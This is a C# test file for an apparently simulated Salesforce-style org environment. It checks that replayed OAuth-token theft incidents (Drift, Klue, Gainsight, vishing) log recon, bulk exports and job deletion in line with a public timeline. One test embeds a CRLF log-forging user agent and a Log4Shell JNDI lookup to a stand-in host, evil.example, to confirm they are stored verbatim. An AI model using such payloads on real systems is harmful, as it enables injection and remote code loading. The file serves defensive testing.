namespace Governance.OrgSimulator.Tests.Events;

/// <summary>The incident scenarios tell the pace and facts of the public record (incident facts §3.1).</summary>
public sealed class IncidentScenarioTests
{
    [Fact]
    public async Task Drift_AsLogged_FollowsThePublicPace()
    {
        await using var world = await StartAsync("drift");
        var org = world.Org("Production");
        var access = await world.LoginAsync(org);
        var logins = (await EventFiles.RowsAsync(world, org, access, "Login")).Where(row => row["USER_NAME"].StartsWith("drift.", StringComparison.Ordinal)).ToList();
        var calls = await EventFiles.RowsAsync(world, org, access, "RestApi");
        var usage = await EventFiles.RowsAsync(world, org, access, "ApiTotalUsage");
        var bulk = await EventFiles.RowsAsync(world, org, access, "BulkApi2");

        var first = logins.Single(row => row["SOURCE_IP"] == "192.0.2.44");
        var second = logins.Single(row => row["SOURCE_IP"] == "198.51.100.36");
        first["LOGIN_SUB_TYPE"].ShouldBe("OauthRefreshToken");
        var recon = calls.Where(row => row["CLIENT_IP"] == "192.0.2.44").ToList();
        recon.ShouldAllBe(row => row["USER_AGENT"] == "Salesforce-Multi-Org-Fetcher/1.0");
        recon[0]["URI"].ShouldEndWith("/sobjects");
        (recon[0].At() - first.At()).ShouldBe(TimeSpan.FromSeconds(1));
        recon.Select(row => row["ENTITY_NAME"]).ShouldBe(["", "Case", "Case", "Account", "Contact", "User", "User", "", "Case"]);
        (second.At() - first.At()).ShouldBe(new TimeSpan(4, 12, 57, 15));
        var (made, done) = (bulk.First(row => row["CLIENT_IP"] == "198.51.100.36"), bulk.First(row => row["JOB_STATUS"] == "JobComplete"));
        (made.At() - second.At()).ShouldBe(TimeSpan.FromSeconds(33));
        (done.At() - made.At()).ShouldBe(TimeSpan.FromSeconds(202));
        done["ENTITY_TYPE"].ShouldBe("Case");
        var deleted = usage.Single(row => row["HTTP_METHOD"] == "DELETE");
        deleted["API_RESOURCE"].ShouldEndWith("/jobs/query/" + done["JOB_ID"]);
        (deleted.At() - done.At()).ShouldBe(TimeSpan.FromSeconds(24));
        (deleted.At() - second.At()).ShouldBe(new TimeSpan(0, 4, 19));
        (await world.CountAsync(org, access, "LoginHistory WHERE LoginTime = LAST_N_DAYS:30 AND CountryIso = 'NL'")).ShouldBe(1);
        Live(await world.TruthAsync(org), "Drift").ShouldBe(13);
    }

    [Fact]
    public async Task Klue_AsLogged_HasTheBurstAndTheSteadyPull()
    {
        await using var world = await StartAsync("klue");
        var (sales, services) = (world.Org("Sales"), world.Org("Services"));
        var burst = (await EventFiles.RowsAsync(world, sales, await world.LoginAsync(sales), "RestApi")).Where(row => row["USER_AGENT"] == "python-urllib/3.12" && row["URI"].EndsWith("/query", StringComparison.Ordinal)).ToList();
        var pull = (await EventFiles.RowsAsync(world, services, await world.LoginAsync(services), "RestApi")).Where(row => row["USER_AGENT"] == "python-urllib/3.12" && row["URI"].EndsWith("/query", StringComparison.Ordinal)).ToList();

        burst.Count.ShouldBe(1_000);
        (burst[^1].At() - burst[0].At()).ShouldBe(TimeSpan.FromMinutes(15));
        (pull[^1].At() - pull[0].At()).ShouldBe(TimeSpan.FromHours(6));
        burst.Concat(pull).Select(row => row["CLIENT_IP"]).Distinct().ShouldAllBe(ip => ip.StartsWith("198.51.100.1", StringComparison.Ordinal));
        var half = TimeSpan.FromMinutes(30);
        pull.Count(row => row.At() - pull[0].At() < half).ShouldBeInRange(50, 200);
        Live(await world.TruthAsync(sales), "Klue").ShouldBe(7);
    }

    [Fact]
    public async Task Gainsight_AsLogged_HasReconAndWavesAtSeveralOrgs()
    {
        await using var world = await StartAsync("gainsight");
        var moments = new List<DateTimeOffset>();
        foreach (var org in world.Ready.Orgs)
        {
            var access = await world.LoginAsync(org);
            var foreign = (await EventFiles.RowsAsync(world, org, access, "RestApi")).Where(row => row["CLIENT_IP"].StartsWith("192.0.2.", StringComparison.Ordinal)).ToList();
            foreign.ShouldNotBeEmpty(org.Name);
            foreign[0]["USER_AGENT"].ShouldBe("Salesforce-Multi-Org-Fetcher/1.0");
            moments.AddRange(foreign.Where(row => row["ROWS_PROCESSED"] == "2000").Select(row => row.At()));
            var truth = await world.TruthAsync(org);
            foreach (var app in (string[])["Gainsight CS", "Gainsight CC", "Skilljar"]) Live(truth, app).ShouldBeGreaterThan(0);
        }

        moments.Sort();
        var waves = 1 + moments.Zip(moments.Skip(1)).Count(pair => pair.Second - pair.First > TimeSpan.FromDays(1));
        waves.ShouldBe(3);
        var apac = world.Org("APAC");
        (await world.QueryAsync(apac, await world.LoginAsync(apac), "SELECT Status FROM LoginHistory")).Records.Count(row => row.GetProperty("Status").GetString() == "Restricted IP").ShouldBe(3);
    }

    [Fact]
    public async Task Vishing_AsLogged_IsAnUninstalledLookalikeWithLargeExports()
    {
        await using var world = await StartAsync("vishing");
        var org = world.Core;
        var access = await world.LoginAsync(org);
        var bulk = (await EventFiles.RowsAsync(world, org, access, "BulkApi2")).Where(row => row["JOB_STATUS"] == "JobComplete").ToList();

        bulk.Select(row => row["ENTITY_TYPE"]).Distinct().ShouldBe(["Account", "Contact"]);
        (await EventFiles.RowsAsync(world, org, access, "ApiTotalUsage")).Count(row => row["HTTP_METHOD"] == "DELETE").ShouldBe(1);
        (await EventFiles.RowsAsync(world, org, access, "Login")).ShouldContain(row => row["LOGIN_SUB_TYPE"] == "UsernamePasswordUiLogin");
        var grant = (await world.QueryAsync(org, access, "SELECT AppName, AppMenuItemId FROM OauthToken WHERE AppName = 'Data Loader Pro'")).Records.Single();
        grant.GetProperty("AppMenuItemId").ValueKind.ShouldBe(System.Text.Json.JsonValueKind.Null);
        (await world.CountAsync(org, access, "ConnectedApplication WHERE Name = 'Data Loader Pro'")).ShouldBe(0);
    }

    [Fact]
    public async Task Hostile_WhenRead_GivesBackEveryTextAsItIs()
    {
        await using var world = await StartAsync("hostile");
        var org = world.Core;
        var access = await world.LoginAsync(org);
        var names = world.Host.World.Orgs[0].Apps.Select(app => app.Name).Order(StringComparer.Ordinal).ToList();

        var truth = await world.TruthAsync(org);
        truth.GetProperty("apps").EnumerateObject().Select(app => app.Name).Order(StringComparer.Ordinal).ShouldBe(names);
        var listed = (await world.QueryAsync(org, access, "SELECT AppName, COUNT(DeleteToken) n FROM OauthToken GROUP BY AppName")).Records.ToDictionary(row => row.GetProperty("AppName").GetString()!, row => row.GetProperty("n").GetInt32());
        foreach (var app in truth.GetProperty("liveTokensByApp").EnumerateObject()) listed.GetValueOrDefault(app.Name).ShouldBe(app.Value.GetInt32(), app.Name);
        foreach (var name in names.Where(listed.ContainsKey))
        {
            var literal = name.Replace("\\", "\\\\").Replace("'", "\\'").Replace("\n", "\\n").Replace("\r", "\\r").Replace("\t", "\\t");
            (await world.CountAsync(org, access, $"OauthToken WHERE AppName = '{literal}'")).ShouldBe(listed[name], name);
        }

        var logged = await EventFiles.RowsAsync(world, org, access, "RestApi");
        logged.Count.ShouldBe(24);
        logged.Select(row => row["USER_AGENT"]).ShouldContain("x\r\nEVENT_TYPE,forged");
        logged.ShouldAllBe(row => row.Count == logged[0].Count);
        var audit = (await world.QueryAsync(org, access, "SELECT Display FROM SetupAuditTrail")).Records.Select(row => row.GetProperty("Display").GetString()!).ToList();
        audit.ShouldContain("${jndi:ldap://evil.example/a}");
        names.ShouldAllBe(name => name.Length <= 255);
        world.Host.World.Orgs[0].Users.ShouldAllBe(user => user.Username.Length <= 80 && user.Name.Length <= 121);
    }

    private static async Task<TestWorld> StartAsync(string scenario)
    {
        var world = await TestWorld.StartAsync(new SimulatorOptions { Scenario = scenario });
        world.Ready.ToString().ShouldStartWith("READY {");
        foreach (var org in world.Ready.Orgs) (await world.JwtAsync(org)).Status.ShouldBe(200, org.Name);
        (await world.ControlAsync(HttpMethod.Get, "truth")).Json.GetProperty("orgs").GetArrayLength().ShouldBe(world.Ready.Orgs.Count);
        return world;
    }

    private static int Live(System.Text.Json.JsonElement truth, string app) => truth.GetProperty("liveTokensByApp").GetProperty(app).GetInt32();
}
